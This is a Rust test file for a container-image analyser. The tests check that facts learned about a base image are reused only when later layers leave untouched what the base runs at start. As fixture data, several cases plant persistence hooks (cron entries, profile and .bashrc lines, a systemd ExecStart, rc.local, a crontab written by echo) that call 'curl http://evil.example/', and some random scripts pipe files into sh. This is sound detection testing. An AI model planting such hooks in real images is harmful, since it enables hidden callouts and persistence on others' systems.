//! What is known of a base is what following the image itself says.

use lazaret_model::Whiteout;

use super::*;
use crate::launch::{on_deep_stack, recall};

/// Layers as text, lowest first: `PATH TEXT` is a file (`\n` for a new line), `PATH -> TARGET` a link,
/// `PATH/` a directory, `!PATH` a whiteout, `!!PATH` an opaque directory.
struct Layered {
    layers: Vec<LayerFacts>,
    contents: BTreeMap<ContentId, Arc<[u8]>>,
    start: String,
}

impl Layered {
    fn new(start: &str, layers: &[&str]) -> Self {
        let mut contents = BTreeMap::new();
        let layers = layers.iter().map(|text| layer(text, &mut contents)).collect();
        Self { layers, contents, start: start.to_owned() }
    }

    fn follow(&self) -> StartPath {
        let mut fixture = Fixture::default();
        fixture.config.entrypoint = vec![self.start.clone()];
        let view = View::new(&self.layers.iter().collect::<Vec<_>>());
        follow(&fixture.image(), &view, &self.contents, &LaunchLimits::default())
    }
}

fn layer(text: &str, contents: &mut BTreeMap<ContentId, Arc<[u8]>>) -> LayerFacts {
    let mut facts = LayerFacts {
        complete: true,
        diff_id: Some(Digest::sha256(blake3::hash(text.as_bytes()).as_bytes())),
        ..LayerFacts::default()
    };
    for line in text.lines().map(str::trim).filter(|line| !line.is_empty()) {
        let entry = if let Some(path) = line.strip_prefix("!!") {
            (path, FileKind::File, None, Some(Whiteout::Opaque(path.into())))
        } else if let Some(path) = line.strip_prefix('!') {
            (path, FileKind::File, None, Some(Whiteout::Path(path.into())))
        } else if let Some(path) = line.strip_suffix('/') {
            (path, FileKind::Directory, None, None)
        } else if let Some((path, target)) = line.split_once(" -> ") {
            (path, FileKind::Symlink(target.as_bytes().to_vec()), None, None)
        } else {
            let (path, text) = line.split_once(' ').unwrap();
            let text = text.replace("\\n", "\n");
            let id = ContentId(*blake3::hash(text.as_bytes()).as_bytes());
            contents.insert(id, Arc::from(text.as_bytes()));
            (path, FileKind::File, Some(id), None)
        };
        let (path, kind, content, whiteout) = entry;
        facts.entries.push(FileEntry {
            path: path.into(),
            kind,
            mode: 0o755,
            uid: 0,
            gid: 0,
            size: 1,
            mtime: 0,
            content,
            xattrs: Vec::new(),
            whiteout,
        });
    }
    facts
}

/// Follows images one after the other as a worker does; each must be what it is by itself. How many
/// took what was known.
fn compare(images: &[Layered]) -> usize {
    let alone: Vec<StartPath> = images.iter().map(Layered::follow).collect();
    let (one_by_one, taken) = on_deep_stack(|| {
        let seen: Vec<StartPath> = images.iter().map(Layered::follow).collect();
        (seen, recall::taken())
    })
    .unwrap();
    for (number, (alone, seen)) in alone.iter().zip(&one_by_one).enumerate() {
        assert_eq!(lines(alone), lines(seen), "image {number}");
        assert_eq!(alone.behaviours, seen.behaviours, "image {number}");
        assert_eq!(alone.files, seen.files, "image {number}");
        assert_eq!(alone.gaps, seen.gaps, "image {number}");
        assert_eq!(alone.missing, seen.missing, "image {number}");
    }
    taken
}

const BASE: &str = "etc/
    usr/
    usr/bin/
    bin/sh \x7fELF
    usr/bin/curl \x7fELF
    usr/bin/tool #!/bin/sh\\ncurl http://tool.example/\\n
    usr/sbin/cron \x7fELF
    etc/cron.d/base 1 * * * * root tool\\n
    etc/init.d/daemon #!/bin/sh\\n. /etc/default/daemon\\ncurl $PLACE\\n
    etc/default/
    etc/default/daemon PLACE=http://base.example/\\n
    etc/profile.d/a.sh alias x=y\\ncurl http://login.example/\\n
    lib -> usr/lib
    etc/profile for i in /etc/profile.d/*.sh; do . $i; done\\n";

fn on_base(own: &str) -> Layered {
    Layered::new("/app/start", &[BASE, &format!("app/start #!/bin/sh\\ncurl http://own.example/\\n\n{own}")])
}

#[test]
fn what_touches_nothing_of_the_base_takes_what_is_known() {
    let quiet = [
        "",
        "app/data text",
        "etc/\nusr/\nusr/bin/\nopt/x/y text",
        "usr/bin/another #!/bin/sh\\ncurl x\\n",
        "lib/x.so \x7fELF",
        "!usr/share/doc",
    ];
    for own in quiet {
        assert_eq!(compare(&[on_base("app/first text"), on_base(own)]), 1, "{own}");
    }
}

#[test]
fn what_touches_what_was_read_is_followed_by_itself() {
    let loud = [
        "etc/cron.d/own 1 * * * * root curl http://evil.example/\\n",
        "etc/default/daemon PLACE=http://evil.example/\\n",
        "usr/bin/tool #!/bin/sh\\ncurl http://evil.example/\\n",
        "usr/local/bin/tool #!/bin/sh\\ncurl http://evil.example/\\n",
        "!etc/cron.d/base",
        "!etc/default",
        "!!etc",
        "etc/profile.d/b.sh curl http://evil.example/\\n",
        "root/.bashrc curl http://evil.example/\\n",
        "etc/default text",
        "usr/bin/tool/deeper text",
        "usr/lib/systemd/system/x.service [Service]\\nExecStart=/usr/bin/curl http://evil.example/\\n",
        "etc/rc.local #!/bin/sh\\ncurl http://evil.example/\\n",
        "home/kim/.profile curl http://evil.example/\\n",
        "!.",
        "!!",
    ];
    for own in loud {
        assert_eq!(compare(&[on_base("app/first text"), on_base(own)]), 0, "{own}");
        // What was learned on the one that differs is not taken for the plain one.
        compare(&[on_base(own), on_base("app/second text"), on_base(own)]);
    }
}

#[test]
fn what_the_image_itself_starts_and_plants_counts() {
    let start = |line: &str| {
        let own = format!("app/start #!/bin/sh\\n{line}\\n");
        Layered::new("/app/start", &[BASE, &own])
    };
    let plain = || start("curl http://own.example/");
    assert_eq!(compare(&[plain(), start("cron -f")]), 0);
    assert_eq!(
        compare(&[plain(), start("echo '* * * * * curl http://evil.example/' > /etc/crontabs/root")]),
        0
    );
    assert_eq!(compare(&[plain(), start("echo x > /tmp/x"), start("cron -f"), start("cron -n")]), 2);
}

#[test]
fn an_image_that_spends_the_budget_decides_nothing_for_others() {
    // A schedule that takes 10,000 steps to read, and starts that leave less and less for it.
    let late = format!(
        "{BASE}\n    etc/cron.d/late 1 * * * * root /usr/bin/late\n    usr/bin/late #!/bin/sh\\ncurl http://late.example/\\n: {}\n",
        "x".repeat(40_000)
    );
    let image = |start: &str| Layered::new("/app/start", &[&late, &format!("app/start {start}")]);
    let spend = |times: usize, rest: usize| {
        let again = "eval \"$x\"\\n".repeat(times);
        image(&format!(
            "#!/bin/bash\\nx=': {}'\\n{again}eval ': {}'\\n",
            "y".repeat(200_000),
            "z".repeat(rest)
        ))
    };
    let mut cut = 0;
    for rest in (0..200_000).step_by(16_000) {
        let greedy = spend(18, rest);
        let gaps = greedy.follow().gaps;
        cut += usize::from(gaps.iter().any(|gap| gap.detail.contains("more steps")));
        compare(&[greedy, image("#!/bin/sh\\ncurl http://own.example/\\n")]);
    }
    assert!((1..13).contains(&cut), "{cut} of 13 spent it all: some must, and some must not");
    // So does one that uses up what programs in other languages may take.
    let python = Layered::new(
        "/app/start",
        &[&late, "app/start #!/usr/bin/python3\\nimport os\\nos.system('true')\\n"],
    );
    assert_eq!(compare(&[python, image("a"), image("b")]), 1);
}

#[test]
fn the_layers_that_matter_are_found_below_those_that_do_not() {
    let middle = "usr/bin/tool #!/bin/sh\\ncurl http://middle.example/\\n";
    let image = |middle: &str, own: &str| {
        Layered::new("/app/start", &[BASE, middle, "opt/x text", &format!("app/start {own}")])
    };
    assert_eq!(
        compare(&[image(middle, "a"), image(middle, "b"), image("opt/y z", "a"), image(middle, "c")]),
        2
    );
    // The upper layers of one image tell nothing of the base: another stands on the base alone.
    assert_eq!(compare(&[image("opt/y z", "a"), Layered::new("/x", &[BASE])]), 1);
}

/// Numbers that look random and are the same each time (splitmix64).
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, most: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((z ^ (z >> 31)) % most as u64) as usize
    }
}

#[test]
fn random_images_are_what_they_are_by_themselves() {
    // Most of what layers bring is of no concern to what a base does later.
    const PATHS: [&str; 24] = [
        "etc/cron.d/a",
        "etc/cron.d/b",
        "etc/cron.daily/c",
        "etc/profile",
        "etc/profile.d/d.sh",
        "etc/init.d/e",
        "etc/default/f",
        "usr/bin/tool",
        "usr/local/bin/tool",
        "opt/g",
        "opt/g/h",
        "etc/default",
        "opt",
        "srv/i",
        "app/1",
        "app/2",
        "app/3/x",
        "app/4",
        "app/5",
        "var/lib/6",
        "var/lib/7",
        "usr/share/8",
        "usr/share/9",
        "usr/share/8/y",
    ];
    let mut numbers = Numbers(7);
    let some = |numbers: &mut Numbers, most: usize| {
        let mut text = String::new();
        for _ in 0..numbers.below(most) + 1 {
            let path = PATHS[numbers.below(PATHS.len())];
            let other = PATHS[numbers.below(PATHS.len())];
            let script = match numbers.below(5) {
                0 => format!("#!/bin/sh\\n. /{other}\\ncurl http://{}.example/\\n", numbers.below(9)),
                1 => format!("#!/bin/sh\\nif [ -e /{other} ]; then tool; fi\\n"),
                2 => format!("#!/bin/sh\\nfor x in /{other}/*; do sh $x; done\\n"),
                3 => format!("* * * * * root tool /{other}\\n"),
                _ => format!("#!/bin/sh\\ncat /{other} | sh\\ntool\\n"),
            };
            text.push_str(&match numbers.below(8) {
                0 => format!("!{path}\n"),
                1 => format!("!!{}\n", path.rsplit_once('/').map_or(path, |(above, _)| above)),
                2 => format!("{path} -> /{other}\n"),
                3 => format!("{path}/\n"),
                _ => format!("{path} {script}\n"),
            });
        }
        text
    };
    let mut taken = 0;
    for _ in 0..150 {
        let base = format!("bin/sh \x7fELF\nusr/bin/curl \x7fELF\n{}", some(&mut numbers, 10));
        let images: Vec<Layered> = (0..4)
            .map(|number| {
                let own = some(&mut numbers, 2);
                Layered::new("/srv/i", &[&base, &format!("app/{number} x\n{own}")])
            })
            .collect();
        taken += compare(&images);
    }
    assert!(taken > 60, "{taken} of 600 took what was known: too few to compare");
}
